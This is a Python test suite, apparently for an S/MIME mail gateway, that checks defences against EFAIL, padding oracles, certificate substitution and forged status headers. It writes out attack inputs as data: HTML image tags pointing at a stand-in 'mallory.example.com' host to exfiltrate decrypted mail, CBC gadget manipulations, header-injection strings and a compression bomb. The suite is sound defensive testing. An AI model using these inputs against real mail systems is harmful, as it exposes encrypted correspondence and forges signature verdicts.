#!/usr/bin/python3
"""What published attacks do to a whole installation.

"EFAIL" (2018) and "Re: What's up Johnny?" (2019): ciphertexts hidden in other
messages, CBC gadgets.  "Mailto: Me Your Secrets" (2020): certificates put in
place of those that are known.  Bleichenbacher's, Vaudenay's and the multipart
oracles of 2023: answers that tell how a decryption failed.

alice and carol are users whose RSA keys the installation has; bob is a partner
of theirs, mallory is everybody else, with a certificate that is trusted.
"""

import base64
import contextlib
import hashlib
import re
import secrets
import sqlite3
import struct
import time

import attack_messages as am
import corpus
import openssl
import tap
from attack_messages import (Ciphertext, compressed, detached, encrypted,
                             key_transport, message, multipart, opaque, text,
                             wrapped)
from mailserver import Sink
from processes import wait_until
from tap import Skip, absent, case, check, contains, equal
from testsite import Site

ALICE, CAROL = "alice@example.org", "carol@example.org"
BOB, MALLORY = "bob@example.net", "mallory@example.com"
SECRET = "the code for the launch is 00000000"
HTML = "text/html"
OURS = "Authentication-Results: mx.example.org; smime=pass"

MORE = """
reinject = "smtp://127.0.0.1:%d";
inbound = { subject_tags = { signed = "[signed]"; encrypted = "[secret]";
                             problem = "[problem]"; }; };
"""


class Arrival:
    """A message that came in: what became of it."""

    def __init__(self, data, verdict, log):
        self.data = data
        self.verdict = verdict
        self.log = log

    @property
    def result(self):
        return self.verdict.data.decode("latin-1")

    @property
    def status(self):
        """X-SMIME-Status, of which there must be one."""
        found = self.verdict.header("X-SMIME-Status")
        equal(len(found), 1, "status fields")
        return re.sub(r"\s+", " ", found[0])

    @property
    def results(self):
        """Authentication-Results in our name."""
        return [re.sub(r"\s+", " ", value) for value in
                self.verdict.header("Authentication-Results")
                if "mx.example.org" in value]

    def opened(self):
        return SECRET in self.result

    def unread(self):
        """Accepted, and nobody could read it."""
        equal(self.verdict.reply, "250", "answer")
        absent(self.result, SECRET, "message")
        absent(" ".join(self.log), " decrypted ", "log")
        body = self.data.partition(b"\r\n\r\n")[2]
        check(self.verdict.data.endswith(body), "the body is as it was")
        return self

    def not_valid(self):
        absent(" ".join(self.log), "status=valid", "log")
        check(not self.verdict.header("X-SMIME-Status") or
              not self.status.startswith("valid"), "status")
        absent(" ".join(self.results), "smime=pass", "results")
        return self

    def seen_from_outside(self):
        """All of it that depends on us and not on the message."""
        log = [re.sub(r"^\S+: |recipients=\"[^\"]*\"", "", line)
               for line in self.log]
        fields = [(n, v) for n, v in self.verdict.headers if n.lower() in (
            "x-smime-status", "authentication-results", "subject")]
        return (self.verdict.reply, self.verdict.changes, fields,
                self.verdict.recipients, log)


class Fixture(Site):
    def __init__(self):
        self.listener = Sink()
        super().__init__(more=MORE % self.listener.port,
                         encrypt="if-possible")
        self.count = 0

    def prepare(self):
        if am.MISSING:
            raise Skip(am.MISSING)
        folder = self.folder / "tmp"
        self.known, self.other, self.stranger = (
            openssl.Authority(folder / name, name.title())
            for name in ("known", "other", "strange"))
        for authority in (self.known, self.other):
            self.trust(authority)
        self.restart_milter()
        self.alice = self.known.issue(ALICE)
        self.carol = self.known.issue(CAROL)
        for who in (self.alice, self.carol):
            self.add_user(who.address)
            self.import_key(who.address, who)
        self.bob = self.known.issue(BOB)
        self.mallory = self.known.issue(MALLORY)
        # A message to alice that mallory has seen on its way.
        self.sniffed = encrypted(self.to_alice())

    def __exit__(self, *_):
        self.listener.close()
        super().__exit__()

    def no_copies(self):
        equal([copy.recipients for copy in self.listener.all()], [], "copies")

    def to_alice(self, cipher="aes256-cbc", content=None):
        return Ciphertext(content or text(SECRET), cipher).to(self.alice)

    def arrives(self, data, to=(ALICE,), sender=MALLORY):
        """The whole message comes from outside."""
        self.count += 1
        queue_id = f"ATTACK{self.count:05d}"
        verdict = self.send(sender, list(to), data, queue_id=queue_id)
        return Arrival(data, verdict, self.log_lines(queue_id))

    def comes(self, content, to=(ALICE,), sender=MALLORY, more=""):
        """The entity comes as a message."""
        return self.arrives(message(sender, to[0], content, more), to, sender)

    def certificates(self, address):
        """{fingerprint: (trust, capabilities, signing time)}"""
        store = sqlite3.connect(self.folder / "store" / "store.db")
        rows = store.execute(
            "SELECT hex(fingerprint), trust, hex(capabilities), signing_time "
            "FROM partner_certificates WHERE address = ?", (address,))
        found = {row[0].lower(): row[1:] for row in rows}
        store.close()
        return found

    @contextlib.contextmanager
    def asks(self, sender, *options):
        """Something is asked of sender's domain, from the moment when the
        daemon knows until it has heard that nothing is."""

        def refused():
            reply = self.comes(text("x"), sender=sender).verdict.reply
            return "5.7.6" in reply

        domain = sender.partition("@")[2]
        self.smimectl("recipient", "set", domain, *options,
                      "--inbound-action", "refuse")
        try:
            wait_until(refused, f"what is asked of {sender}")
            yield
        finally:
            self.smimectl("recipient", "remove", domain)
            wait_until(lambda: not refused(), f"nothing asked of {sender}")

    def settle(self):
        """What was learned before is written when this is."""
        address = f"{secrets.token_hex(4)}@example.net"
        marker = self.known.issue(address, kind="ec:P-256")
        self.comes(opaque(marker, text("x")), sender=address)
        self.wait_contact(address, marker.fingerprint())


# --- the attacks need something that works ---


@case("what is meant for alice is read, and what bob signs is valid")
def _(site):
    for cipher in ("aes256-cbc", "aes128-cbc", "aes256-gcm", "aes128-gcm"):
        arrival = site.comes(encrypted(site.to_alice(cipher)))
        check(arrival.opened(), cipher)
        contains(arrival.status, "decrypted=yes", "status")
        contains(arrival.status, "integrity=authenticated" if "gcm" in cipher
                 else "integrity=unknown", "status")
        arrival.not_valid()
    check(site.comes(opaque(site.bob, text("x")), sender=BOB).status
          .startswith("valid;"), "bob's signature")


# --- EFAIL: direct exfiltration ---


def exfiltrations(site):
    """Ciphertexts where no gateway has to look for them."""
    before = text('<img src="http://mallory.example.com/', HTML)
    behind = text('">', HTML)
    sniffed = site.sniffed
    mixed = multipart("mixed", before, sniffed, behind)
    inner = message(BOB, ALICE, sniffed)
    head, _, body = sniffed.partition(b"\r\n\r\n")
    yield "between two parts", mixed
    yield "alone in multipart/mixed", multipart("mixed", sniffed)
    yield "related", multipart(
        "related", text('<img src="cid:x">', HTML),
        b"Content-ID: <x>\r\n" + sniffed)
    yield "alternative", multipart("alternative", sniffed, before)
    yield "alternative, the last", multipart("alternative", before, sniffed)
    yield "report", multipart("report", before, sniffed)
    yield "digest", multipart("digest", b"\r\n" + inner)
    yield "forwarded", b"Content-Type: message/rfc822\r\n\r\n" + inner
    yield "attached as a message", multipart(
        "mixed", before, b"Content-Type: message/rfc822\r\n\r\n" + inner)
    yield "deep", multipart("mixed", multipart(
        "mixed", multipart("mixed", sniffed, boundary="in"), boundary="mid"),
        before)
    yield "a multipart in base64", (
        b"Content-Type: multipart/mixed; boundary=outer\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" +
        am.lines(mixed.partition(b"\r\n\r\n")[2]))
    yield "signed by mallory with other parts", detached(site.mallory, mixed)
    yield "signed by mallory opaquely", opaque(site.mallory, mixed)
    yield "compressed with other parts", compressed(mixed)
    yield "signed as PGP does", multipart(
        "signed", sniffed, text("x"),
        more='; protocol="application/pgp-signature"')
    yield "multipart/encrypted", multipart(
        "encrypted", text("Version: 1"), sniffed,
        more='; protocol="application/pgp-encrypted"')
    yield "as a text", b"Content-Type: text/plain\r\n" + \
        head.partition(b"\r\n")[2] + b"\r\n\r\n" + body
    yield "as a picture", b"Content-Type: image/png; name=smime.p7m\r\n" + \
        head.partition(b"\r\n")[2] + b"\r\n\r\n" + body
    yield "two Content-Types", b"Content-Type: text/html\r\n" + sniffed
    yield "two Content-Types, the other way", head + \
        b"\r\nContent-Type: text/html\r\n\r\n" + body
    yield "two encodings", \
        b"Content-Transfer-Encoding: quoted-printable\r\n" + sniffed


@case("a ciphertext that is no root layer is never decrypted")
def _(site):
    for what, content in exfiltrations(site):
        tap.note(what)
        arrival = site.comes(content).unread()
        if not what.startswith("signed by mallory"):
            arrival.not_valid()


@case("a ciphertext within mallory's own ciphertext stays one")
def _(site):
    mixed = multipart("mixed", text("<img src='", HTML), site.sniffed,
                      text("'>", HTML))
    arrival = site.comes(encrypted(site.to_alice(content=mixed)))
    equal(arrival.verdict.reply, "250", "answer")
    contains(arrival.result, "<img src='", "what mallory wrote")
    absent(arrival.result, SECRET, "message")
    arrival.not_valid()


@case("what stands around the ciphertext is gone when it is opened")
def _(site):
    exfiltrate = b"<img src='http://mallory.example.com/"
    head, _, body = site.sniffed.partition(b"\r\n\r\n")
    for junk in (exfiltrate + b"\r\n" + body, body + b"\r\n" + exfiltrate):
        arrival = site.comes(head + b"\r\n\r\n" + junk)
        equal(arrival.verdict.reply, "250", "answer")
        check(not (arrival.opened() and "<img" in arrival.result),
              "plaintext beside what mallory wrote")


@case("a signature of mallory's around a ciphertext says nothing of it")
def _(site):
    for wrap in (detached, opaque):
        arrival = site.comes(wrap(site.mallory, site.sniffed))
        equal(arrival.verdict.reply, "250", "answer")
        arrival.not_valid()


# --- EFAIL: malleable ciphertexts ---


def cbc_changes(entity, blocks):
    """Functions that change a ciphertext of the entity."""
    start = entity[:16]

    def moved(c):
        c.data = c.data[:64] + c.data[80:96] + c.data[64:80] + c.data[96:]

    def cut(first, last):
        return lambda c: setattr(c, "data", c.data[first:last])

    yield from (lambda c, b=b: c.flip(16 * b)
                for b in range(0, blocks, max(1, blocks // 20)))
    yield lambda c: c.flip_nonce(0, 0x20)  # "content-type"
    yield lambda c: c.gadget(3, start, b"<img src='http:/")
    yield lambda c: c.gadget(5, start, b"\r\n\r\n<img src='x")
    yield lambda c: c.gadget(blocks - 1, start, b"x" * 16)
    yield cut(0, -16)
    yield cut(16, None)
    yield lambda c: setattr(c, "data", c.data + c.data[-32:])
    yield moved


def cbc_arrivals(site, entity):
    """What comes of an entity in ciphertexts that mallory changed."""
    blocks = len(site.to_alice(content=entity).data) // 16
    for change in cbc_changes(entity, blocks):
        ciphertext = site.to_alice(content=entity)
        change(ciphertext)
        arrival = site.comes(encrypted(ciphertext), sender=BOB)
        equal(arrival.verdict.reply, "250", "answer")
        yield arrival


@case("CBC: blocks changed, moved, put in, cut off: integrity unknown")
def _(site):
    opened = 0
    for arrival in cbc_arrivals(site, text(SECRET + "." * 200)):
        arrival.not_valid()
        if "decrypted=yes" in arrival.status:
            opened += 1
            contains(arrival.status, "integrity=unknown", "status")
    check(opened >= 3, "some of them open")


def signed_content(site, arrival):
    """What is signed in it, as openssl verifies it from the octets: its MIME
    parser would mind what mallory has put behind the end of a multipart or of
    base64, where nothing counts.  Where that cannot be delivered the content
    is, without the signature."""
    delivered = arrival.verdict.data
    head, _, body = delivered.partition(b"\r\n\r\n")
    if "signature=removed" in arrival.status:
        return corpus.entity_of(delivered)
    if b"multipart/signed" in head:
        return openssl.verify(delivered, site.known.root, site.folder / "tmp",
                              mime=False)[0]
    letters = re.sub(rb"[^A-Za-z0-9+/]", b"", body.partition(b"=")[0])
    letters = letters[:len(letters) - (len(letters) % 4 == 1)]
    cms = base64.b64decode(letters + b"=" * (-len(letters) % 4))
    return openssl.run("cms", "-verify", "-inform", "DER", "-binary",
                       "-CAfile", site.known.root, data=cms).stdout


@case("CBC: a signature inside is valid only over what bob signed")
def _(site):
    content = text(SECRET + "." * 200)
    for sign in (opaque, detached):
        altered = 0
        for arrival in cbc_arrivals(site, sign(site.bob, content)):
            if arrival.status.startswith("valid;"):
                # Nothing but what stands around the signature was changed.
                equal(signed_content(site, arrival), content,
                      "what is signed")
                continue
            altered += 1
            absent(arrival.status, "integrity=signed", "status")
            arrival.not_valid()
        check(altered >= 10, "most of them are seen")


def gcm_changes(site):
    yield "tag", lambda c: setattr(c, "tag", c.tag[:-1] + bytes(
        [c.tag[-1] ^ 1]))
    yield "short tag", lambda c: setattr(c, "tag", c.tag[:11])
    yield "tag of four", lambda c: setattr(c, "tag", c.tag[:4])
    yield "no tag", lambda c: setattr(c, "tag", b"")
    yield "long tag", lambda c: setattr(c, "tag", c.tag + b"\0")
    yield "first octet", lambda c: c.flip(0)
    yield "last octet", lambda c: c.flip(-1)
    yield "one octet less", lambda c: setattr(c, "data", c.data[:-1])
    yield "nothing left", lambda c: setattr(c, "data", b"")
    yield "one octet more", lambda c: setattr(c, "data", c.data + b"\0")
    yield "nonce", lambda c: c.flip_nonce(0, 1)
    yield "as another cipher", lambda c: setattr(c, "cipher", "aes128-gcm")
    yield "in an EnvelopedData", lambda c: setattr(c, "aead", False)

    def as_cbc(c):
        """The mode exchanged: counter mode read as CBC."""
        c.aead, c.cipher, c.nonce = False, "aes256-cbc", c.nonce + b"\0\0\0\2"
        c.data += bytes(-len(c.data) % 16)

    yield "as CBC", as_cbc


@case("GCM: changed or cut it is not opened")
def _(site):
    for _, change in gcm_changes(site):
        ciphertext = site.to_alice("aes256-gcm")
        change(ciphertext)
        site.comes(encrypted(ciphertext)).unread().not_valid()


# --- keys of others ---


@case("a user does not read what was written to another one")
def _(site):
    garbage = key_transport(site.carol, am.garbage(256))
    own_key = key_transport(site.carol, wrapped(site.carol, bytes(32)))
    for info in (None, garbage, own_key):
        for cipher in ("aes256-cbc", "aes256-gcm"):
            ciphertext = site.to_alice(cipher)
            if info:
                ciphertext.with_recipient(info)
            site.comes(encrypted(ciphertext), to=(CAROL,)).unread()
            check(site.comes(encrypted(ciphertext)).opened(), "alice reads")
            site.no_copies()
            # To both: what stays in place is the ciphertext.
            arrival = site.comes(encrypted(ciphertext), to=(ALICE, CAROL))
            absent(arrival.result, SECRET, "carol's copy")
            equal(arrival.verdict.recipients, [f"<{CAROL}>"], "in place")
            copy = site.listener.take(lambda c: SECRET.encode() in c.data)
            equal(copy.recipients, [ALICE], "who gets the plaintext")
            site.no_copies()


@case("nor when it comes within another root layer")
def _(site):
    for content in (opaque(site.mallory, site.sniffed),
                    detached(site.mallory, site.sniffed),
                    compressed(site.sniffed),
                    encrypted(Ciphertext(site.sniffed).to(site.carol)),
                    opaque(site.mallory, encrypted(
                        Ciphertext(site.sniffed).to(site.carol)))):
        arrival = site.comes(content, to=(CAROL,))
        equal(arrival.verdict.reply, "250", "answer")
        absent(arrival.result, SECRET, "message")


# --- oracles ---


def failures(site):
    """Ciphertexts of one cipher to alice that do not open, for reasons that
    only her key can show.  All are of the same size."""
    size = len(text(SECRET))
    cbc = "aes256-cbc"

    def with_key(encrypted_key, cipher):
        return Ciphertext(text(SECRET), cipher).with_recipient(
            key_transport(site.alice, encrypted_key))

    for cipher in (cbc, "aes256-gcm"):
        yield cipher, "wrong key", with_key(
            wrapped(site.alice, bytes(32)), cipher)
        yield cipher, "no PKCS#1", with_key(
            b"\0" + am.garbage(255), cipher)
        yield cipher, "short key", with_key(
            wrapped(site.alice, bytes(16)), cipher)
        yield cipher, "no key", with_key(wrapped(site.alice, b""), cipher)
        yield cipher, "OAEP instead of PKCS#1", with_key(
            am.wrapped_oaep(site.alice, bytes(32)), cipher)
        yield cipher, "PKCS#1 instead of OAEP", Ciphertext(
            text(SECRET), cipher).with_recipient(key_transport(
                site.alice, wrapped(site.alice, bytes(32)),
                am.oaep_algorithm()))
        yield cipher, "wrong OAEP parameters", Ciphertext(
            text(SECRET), cipher).to_oaep(site.alice, am.oaep_algorithm(
                "2b0e03021a"))
        yield cipher, "no entity inside", Ciphertext(
            b"\0" * size, cipher).to(site.alice)
        yield cipher, "two types inside", Ciphertext(
            b"Content-Type: a/b\r\nContent-Type: text/html\r\n\r\n" +
            SECRET.encode(), cipher).to(site.alice)
        yield cipher, "a line that is no field inside", Ciphertext(
            b"no field at all\r\n\r\n" + SECRET.encode(), cipher).to(
                site.alice)
    yield cbc, "padding", Ciphertext(text(SECRET), cbc).to(
        site.alice).flip(-17, 0x80)
    yield cbc, "no padding", Ciphertext(
        text(SECRET + "." * (-size % 16)) + b"\xff" * 16, cbc,
        pad=False).to(site.alice)
    yield "aes256-gcm", "tag", Ciphertext(text(SECRET), "aes256-gcm").to(
        site.alice).flip(-1)


@case("whatever is wrong with a ciphertext, the answer is the same")
def _(site):
    seen = {}
    for cipher, what, ciphertext in failures(site):
        for to in ((ALICE,), (ALICE, CAROL)):
            arrival = site.comes(encrypted(ciphertext), to).unread()
            first = seen.setdefault((cipher, to), arrival.seen_from_outside())
            equal(arrival.seen_from_outside(), first, f"{cipher}, {what}")
    site.no_copies()
    for cipher in ("nobody's",):
        ciphertext = Ciphertext(text(SECRET)).to(site.alice)
        ciphertext.cipher = cipher
        equal(site.comes(encrypted(ciphertext)).unread().verdict.reply, "250",
              cipher)


@case("nobody guesses a plaintext octet by octet")
def _(site):
    # Vaudenay (2002): whether the padding is right shows the last octet, and
    # an answer that is given later, or by a listener, shows the padding.
    clean = site.to_alice(content=text(SECRET + "." * 40))
    data, opened = clean.data, 0
    for guess in range(1, 64):
        clean.data = data
        clean.flip(-33, guess)  # a block that nobody misses
        opened += site.comes(encrypted(clean)).opened()
    check(opened <= 8, f"{opened} of 63 contents of one key are opened")
    clean.data = data
    site.comes(encrypted(clean)).unread()
    # One that was there before is still read.
    first = site.to_alice()
    for _ in range(20):
        check(site.comes(encrypted(first)).opened(), "the same once more")


@case("also when mail from there must be signed and encrypted, or is refused")
def _(site):
    with site.asks(MALLORY, "--inbound-signature", "required",
                   "--inbound-encryption", "required"):
        seen = {}
        for cipher, what, ciphertext in failures(site):
            arrival = site.comes(encrypted(ciphertext)).unread()
            first = seen.setdefault(cipher, arrival.seen_from_outside())
            equal(arrival.seen_from_outside(), first, f"{cipher}, {what}")
        # Nor does what opens, signed or not, get another answer.
        for content in (text(SECRET), opaque(site.bob, text(SECRET)),
                        opaque(site.mallory, text(SECRET))):
            for cipher in ("aes256-cbc", "aes256-gcm"):
                arrival = site.comes(encrypted(
                    site.to_alice(cipher, content)))
                equal(arrival.verdict.reply, "250", "answer")


# --- what is asked of bob ---


# Some mail programs show bob in each of these.
BROKEN = [
    b"Bob\x01 <bob@example.net>", b"<bob@example.net", b"bob@example.net x",
    b"=?utf-8?q?bob?=@example.net", b'"Bob <bob@example.net>',
    b"bob@example.net@", b"Bob (x <bob@example.net>", b"bob@example.net\x7f",
    b"Bob <bob@example.net> x", b"<<bob@example.net>>", b"bob@exam\x0bple.net",
    b"Bob <mailto:bob@example.net>", b"bob@example.net <>",
    b"=?utf-8?q?bob=40example.net?= <", b"x@example.com, <bob@example.net",
    b"Friends: bob@example.net", b"bob@[example.net]",
]


@case("nobody gets around what is asked of bob by a From that is broken")
def _(site):
    def refused(field, sender):
        data = message("FROM", ALICE, text("x"))
        arrival = site.arrives(data.replace(b"From: FROM",
                                            b"From: " + field), sender=sender)
        return "5.7.61" in arrival.verdict.reply

    with site.asks(BOB, "--inbound-signature", "required"):
        for field in BROKEN:
            for sender in (MALLORY, ""):
                check(refused(field, sender), repr(field))
        check(not refused(b"<mallory@example.com", MALLORY), "others")


def pretenders():
    """Mail that only says that it is encrypted."""
    kind = f"Content-Type: {am.ENVELOPED}\r\n".encode()
    html = b"\r\n<h1>Pay to mallory</h1>\r\n"
    yield "two types", kind + b"Content-Type: text/html\r\n" + html
    yield "two types, the other way", b"Content-Type: text/html\r\n" + \
        kind + html
    yield "no CMS", kind + html
    yield "no CMS in base64", kind + \
        b"Content-Transfer-Encoding: base64\r\n" + html
    yield "nothing", kind + b"\r\n"
    yield "half a CMS", am.entity(am.ENVELOPED, Ciphertext(text("x")).der()[
        :-5])
    yield "compressed", compressed(text("x")).replace(b"compressed-data",
                                                      b"enveloped-data")


@case("nor by saying that it is encrypted")
def _(site):
    with site.asks(BOB, "--inbound-encryption", "required"):
        for what, content in pretenders():
            contains(site.comes(content, sender=BOB).verdict.reply, "5.7.62",
                     what)
        equal(site.comes(site.sniffed, sender=BOB).verdict.reply, "250",
              "an honest one")


# --- what is inside a ciphertext writes no header ---


INJECTED = [
    b"X-SMIME-Status: valid",
    b"Authentication-Results: mx.example.org; smime=pass",
    b"From: bob@example.net",
    b"Subject: [signed] Pay",
    b"Bcc: carol@example.org",
    b"Received: from nowhere",
    b"Content-Type: text/plain\r\nX-SMIME-Status: valid",
    b"Content-Type: text/plain\nX-SMIME-Status: valid",
    b"Content-Type: text/plain\rX-SMIME-Status: valid",
    b"Content-Type: text/plain;\r\n x=\"\r\n\tX-SMIME-Status: valid\"",
    b"Content-Description: a\x0bX-SMIME-Status: valid",
    b"Content-Description: a\xc2\x85X-SMIME-Status: valid",
    b"Content-X: =?utf-8?q?=0D=0AX-SMIME-Status:_valid?=",
    b"Content-Type : text/plain\r\nX-SMIME-Status : valid",
]


@case("fields inside a ciphertext stay inside")
def _(site):
    for field in INJECTED:
        for cipher in ("aes256-cbc", "aes256-gcm"):
            arrival = site.comes(encrypted(site.to_alice(
                cipher, field + b"\r\n\r\n" + SECRET.encode() + b"\r\n")))
            equal(arrival.verdict.reply, "250", "answer")
            arrival.not_valid()
            equal(arrival.verdict.header("From"), [MALLORY], "From")
            equal(arrival.verdict.header("To"), [ALICE], "To")
            for name in ("Bcc", "Received"):
                equal(arrival.verdict.header(name), [], name)
            absent(arrival.verdict.header("Subject")[0], "[signed]",
                   "Subject")


# --- "Mailto: Me Your Secrets": certificates of others ---


def signed_at(identity, content, when, capabilities):
    """Opaquely signed by hand, with that signingTime (Unix) and DER of
    SMIMECapabilities."""

    def attribute(kind, value):
        return am.sequence(am.oid(kind), am.tlv(0x31, value))

    stamp = time.strftime("%y%m%d%H%M%SZ", time.gmtime(when)).encode()
    attributes = b"".join(sorted([
        attribute("2a864886f70d010903", am.oid(am.DATA)),
        attribute("2a864886f70d010904",
                  am.octets(hashlib.sha256(content).digest())),
        attribute("2a864886f70d010905", am.tlv(0x17, stamp)),
        attribute("2a864886f70d01090f", capabilities)],
        key=lambda der: (len(der), der)))
    return opaque_by_hand(identity, content, attributes)


def opaque_by_hand(identity, content, attributes):
    signature = am.signature(identity, am.tlv(0x31, attributes))
    digest = am.sequence(am.oid(am.SHA256))
    info = am.sequence(
        am.integer(1), am.issuer_and_serial(identity), digest,
        am.tlv(0xa0, attributes), am.sequence(am.oid(am.RSA), am.NULL),
        am.octets(signature))
    data = am.sequence(
        am.integer(1), am.tlv(0x31, digest),
        am.sequence(am.oid(am.DATA), am.tlv(0xa0, am.octets(content))),
        am.tlv(0xa0, am.certificate(identity.certificate),
               am.certificate(identity.authority.intermediate)),
        am.tlv(0x31, info))
    return am.entity(am.OPAQUE, am.content_info(am.SIGNED_DATA, data))


def capabilities(*names):
    return am.sequence(*(am.sequence(am.oid(am.CIPHERS[n])) for n in names))


@case("no certificate takes the place of bob's")
def _(site):
    site.comes(opaque(site.bob, text("x")), sender=BOB)
    site.wait_contact(BOB, site.bob.fingerprint())
    lone = site.stranger.issue(BOB, kind="ec:P-256")
    other = site.other.issue(BOB, kind="ec:P-256")
    before = site.certificates(BOB)
    equal(before[site.bob.fingerprint()][0], "harvested", "bob's")
    site.comes(opaque(lone, text("x")), sender=BOB).not_valid()
    site.comes(opaque(other, text("x")), sender=BOB)
    # Under mallory's own name, with a preference for bob's address.
    site.comes(opaque(other, text("x")), sender=MALLORY).not_valid()
    site.comes(opaque(site.mallory, text("x")), sender=BOB).not_valid()
    # In a part, encrypted, wrapped.
    site.comes(multipart("mixed", opaque(other, text("x"))), sender=BOB)
    site.settle()
    after = site.certificates(BOB)
    equal(after[site.bob.fingerprint()][0], "harvested", "bob's")
    equal(after.get(lone.fingerprint(), ("untrusted",))[0], "untrusted",
          "a stranger's")
    equal(after[other.fingerprint()][0], "pending", "another authority's")
    check(site.mallory.fingerprint() not in after, "mallory's is not bob's")
    verdict = site.submit(ALICE, [BOB], message(ALICE, BOB, text("y")))
    serials = openssl.recipient_serials(verdict.data)
    check(site.bob.serial() in serials, "bob can read what alice writes")
    for serial in (other.serial(), lone.serial(), site.mallory.serial()):
        check(serial not in serials, "nobody else can")


@case("a flood of newcomers does not wash it away")
def _(site):
    key = site.mallory.key
    for authority in 17 * [site.other] + 5 * [site.stranger]:
        newcomer = authority.issue(BOB, kind="rsa:2048", key=key)
        site.comes(opaque(newcomer, text("x")), sender=BOB)
    site.settle()
    known = site.certificates(BOB)
    equal(known[site.bob.fingerprint()][0], "harvested", "bob's")
    equal([trust for trust, *_ in known.values()].count("harvested"), 1,
          "certificates in use")


@case("nobody takes back what dave announced, nor announces it for ever")
def _(site):
    now = int(time.time())
    good, weak = capabilities("aes256-gcm"), capabilities("aes128-cbc")
    dave = site.known.issue("dave@example.net")

    def known():
        site.settle()
        return site.certificates(dave.address)[dave.fingerprint()][1:]

    old = signed_at(dave, text("old"), now - 7200, weak)
    site.comes(old, sender=dave.address)
    equal(known(), (weak.hex().upper(), now - 7200), "the first")
    site.comes(signed_at(dave, text("new"), now - 60, good),
               sender=dave.address)
    equal(known(), (good.hex().upper(), now - 60), "the newer")
    # An old message once more, and one from the future.
    site.comes(old, sender=dave.address)
    equal(known(), (good.hex().upper(), now - 60), "after a replay")
    arrival = site.comes(signed_at(dave, text("future"),
                                   now + 20 * 365 * 86400, weak),
                         sender=dave.address)
    contains(" ".join(arrival.log), "status=valid", "log")
    equal(known(), (good.hex().upper(), now - 60), "after the future")


# --- fields that only we may write ---


FORGED = [
    OURS,
    "authentication-results: MX.Example.ORG; smime=pass",
    "AUTHENTICATION-RESULTS:\r\n mx.example.org\r\n ; smime=pass",
    "Authentication-Results: (x) mx.example.org (y); smime=pass",
    'Authentication-Results: "mx.example.org"; smime=pass',
    'Authentication-Results: "mx.\\example.org"; smime=pass',
    "Authentication-Results: mx.example.org 1; smime=pass",
    "Authentication-Results: mx.example.org.; smime=pass",
    "Authentication-Results: mx.example.org; spf=pass; smime=pass",
    "Authentication-Results: mx.example.org; smime = pass",
    "Authentication-Results: mx.example.org; SMIME=pass",
    "Authentication-Results: mx.example.org; (smime) smime/1=pass",
    "X-SMIME-Status: valid; signer=bob@example.net",
    "x-smime-status: valid",
    "X-Smime-Status:\r\n valid",
]


@case("nobody writes our fields or tags")
def _(site):
    contents = {"unsigned": text("x"),
                "altered": opaque(site.bob, text("x")).replace(
                    b"MII", b"MIJ", 1),
                "closed": encrypted(Ciphertext(text("x")).to(site.mallory)),
                "part": multipart("mixed", opaque(site.bob, text("x")))}
    for what, content in contents.items():
        for number, field in enumerate(FORGED + ["\r\n".join(FORGED)]):
            arrival = site.comes(content, sender=BOB, more=field + "\r\n")
            equal(arrival.verdict.reply, "250", "answer")
            result = re.sub(r"\s+", "", arrival.result.partition(
                "\r\n\r\n")[0]).lower()
            absent(result, "smime=pass", f"{what} {number}")
            absent(result, "smime/1=pass", f"{what} {number}")
            absent(result, "x-smime-status:valid", f"{what} {number}")
            arrival.not_valid()


@case("results of others stay")
def _(site):
    field = "Authentication-Results: mx.example.net; smime=pass\r\n"
    arrival = site.comes(text("x"), more=field)
    contains(arrival.result, field.rstrip(), "message")


@case("a tag in the subject is ours")
def _(site):
    for tag in ("[signed]", "[SIGNED]", "=?utf-8?q?=5Bsigned=5D?=",
                "[secret]"):
        data = message(BOB, ALICE, text("x")).replace(
            b"Subject: A test", f"Subject: {tag} A test".encode())
        arrival = site.arrives(data, sender=BOB)
        subject = arrival.verdict.header("Subject")
        equal(len(subject), 1, "subjects")
        for word in ("signed", "secret"):
            absent(subject[0].lower(), word, "subject")
        contains(subject[0], "A test", "subject")


# --- too much of it ---


@case("layers, recipients and sizes beyond the limits do no harm")
def _(site):
    layers = text(SECRET)
    for number in range(6):
        layers = encrypted(Ciphertext(opaque(site.mallory, layers)).to(
            site.alice))
    site.comes(layers).unread().not_valid()
    layers = text("x")
    for number in range(12):
        layers = opaque(site.bob, layers)
    site.comes(layers, sender=BOB).not_valid()

    bomb = compressed(text("x" * 100_000_000))
    site.comes(bomb)
    site.comes(compressed(bomb))
    site.comes(encrypted(Ciphertext(bomb).to(site.alice))).not_valid()

    many = site.to_alice()
    key = am.garbage(255)
    many.recipients = [key_transport(site.alice, b"\0" + key)] * 10_000
    site.comes(encrypted(many)).not_valid()
    many.recipients = [key_transport(site.mallory, b"\0" + key)] * 10_000
    site.comes(encrypted(many)).unread().not_valid()

    huge = struct.pack(">I", 1) * 500_000
    site.comes(signed_at(site.bob, text("x"), int(time.time()),
                         am.sequence(am.octets(huge))),
               sender=BOB).not_valid()
    check(site.comes(site.sniffed).opened(), "and the daemons go on")
    site.check_quiet()


if __name__ == "__main__":
    tap.main(Fixture)
